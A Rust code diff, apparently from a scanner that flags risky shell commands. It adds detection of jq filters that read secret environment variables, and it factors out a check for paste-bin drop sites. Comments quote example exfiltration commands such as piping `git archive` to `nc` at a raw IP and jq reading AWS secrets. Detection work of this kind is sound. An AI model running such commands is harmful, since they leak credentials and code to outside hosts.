@@ -63,6 +63,16 @@ fn env_read_re() -> &'static Regex {
     })
 }
 
+/// A jq filter reading one environment variable: `env.NAME`, `$ENV.NAME`, `env["NAME"]` (not
+/// a field called `env` of the input, `.env.NAME`).
+fn jq_env_re() -> &'static Regex {
+    static RE: OnceLock<Regex> = OnceLock::new();
+    RE.get_or_init(|| {
+        Regex::new(r#"(?:\$ENV|(?:^|[^.\w$])env)\s*(?:\.\s*|\[\s*")([A-Za-z_][A-Za-z0-9_]*)"#)
+            .expect("static regex")
+    })
+}
+
 /// The home directory itself (`~`, `$HOME`, `/home/NAME`, `/root`).
 fn is_home_dir(p: &str) -> bool {
     let p = p.trim_end_matches('/');
@@ -395,6 +405,29 @@ fn command_source(script: &Script, cmd: &Command) -> Option<(Secret, String)> {
             .find_map(|a| secret_var(&format!("${}", a.text)))
         {
             return Some((Secret::Variable, format!("${v}")));
+        }
+    }
+    // `jq -rn 'env.AWS_SECRET_ACCESS_KEY'`, `jq -n '$ENV.TOKEN'`, `jq -n env`: jq reads the
+    // environment.
+    if matches!(name, "jq" | "gojq" | "jaq") {
+        let filters = args.iter().filter(|a| !a.text.starts_with('-'));
+        for f in filters {
+            let whole = matches!(
+                f.text.trim(),
+                "env" | "$ENV" | "env | tojson" | "$ENV | tojson"
+            );
+            if whole {
+                return Some((
+                    Secret::Environment,
+                    format!("`{name}` printing the whole environment"),
+                ));
+            }
+            if let Some(v) = jq_env_re()
+                .captures_iter(&f.text)
+                .find_map(|c| secret_var(&format!("${}", c.get(1)?.as_str())))
+            {
+                return Some((Secret::Variable, format!("${v}")));
+            }
         }
     }
     // `python3 -c 'print(os.environ["TOKEN"])'`, `node -p process.env.NPM_TOKEN`.
@@ -2424,6 +2457,13 @@ fn raw_socket_host(cmd: &Command) -> Option<&Word> {
     .flatten()
 }
 
+/// Whether `host` is an anonymous paste bin or file-drop service (or a subdomain of one).
+pub(crate) fn is_drop_site(host: &str) -> bool {
+    DROP_SITES
+        .iter()
+        .any(|d| host == *d || host.ends_with(&format!(".{d}")))
+}
+
 /// The drop site or raw socket an upload goes to, when the command sends data (a file, its
 /// stdin or a body).
 fn uploads_to_drop_site(cmd: &Command, sink: &SinkArgs) -> Option<String> {
@@ -2431,11 +2471,7 @@ fn uploads_to_drop_site(cmd: &Command, sink: &SinkArgs) -> Option<String> {
         .payload
         .iter()
         .filter_map(|w| url_host(&w.text))
-        .find(|h| {
-            DROP_SITES
-                .iter()
-                .any(|d| h == d || h.ends_with(&format!(".{d}")))
-        });
+        .find(|h| is_drop_site(h));
     // A raw socket (`git archive HEAD | nc 198.51.100.5 9000`) is no way to share code either;
     // one to the user's own network (`nc logstash.internal 5000`) is how logs and metrics go.
     let raw = raw_socket_host(cmd)
